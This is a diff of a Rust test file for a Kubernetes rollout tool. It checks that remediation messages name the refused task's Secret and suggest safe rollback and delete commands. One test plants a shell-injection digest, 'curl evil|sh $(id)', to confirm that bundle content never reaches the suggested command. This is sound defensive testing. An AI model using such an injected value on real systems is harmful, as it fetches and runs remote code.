@@ -436,6 +436,22 @@ fn refused_credentials_name_the_secret() {
 }
 
 #[test]
+fn the_secret_of_the_task_that_was_refused_is_named_and_not_that_of_git() {
+    for git in [Some("github-token"), None] {
+        let mut scene = refused("the Secret does not exist: permission denied", git);
+        let step = &mut scene.steps[0];
+        step.spec.steps = Some(object(json!([
+            {"uses": "git-clone"},
+            {"uses": "smoke", "config": {"url": "https://ci.example.com", "secretRef": {"name": "ci-token"}}},
+        ])));
+        let status = step.status.as_mut().unwrap();
+        status.current_step_index = Some(1);
+        let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
+        assert!(told.contains("correct the Secret `ci-token`; it goes on by itself"), "{told}");
+    }
+}
+
+#[test]
 fn a_command_that_is_told_runs_nothing_that_is_written_in_a_bundle() {
     let mut scene = refused("https://example.com/gitops refuses the credentials", None);
     scene.bundles[0].spec.artifacts.images[0].digest = Some("sha256:a;curl evil|sh $(id) 'x'".to_owned());
@@ -448,7 +464,16 @@ fn a_command_that_is_told_runs_nothing_that_is_written_in_a_bundle() {
     spec.provenance = Some(object(json!({"rollbackOf": "my-app-v1-30-0"})));
     spec.intent = Some(object(json!({"target": "prod"})));
     let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
-    assert!(told.ends_with("`kardinal rollback my-app --env prod -n default`"), "{told}");
+    let again = "&& kardinal rollback my-app --env prod --to 1.29.0 -n default`";
+    assert!(told.ends_with(again), "{told}");
+    // While it is there it is on its way already, and nothing would be made.
+    let name = scene.bundles[0].metadata.name.clone().unwrap();
+    let delete = format!("`kubectl delete bundles.kardinal.io {name} -n default {again}");
+    assert!(told.ends_with(&delete), "{told}");
+    let labels = scene.bundles[0].metadata.labels.get_or_insert_default();
+    labels.insert("kardinal.io/emergency".to_owned(), "true".to_owned());
+    let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
+    assert!(told.ends_with("--to 1.29.0 --emergency -n default`"), "{told}");
 }
 
 #[test]
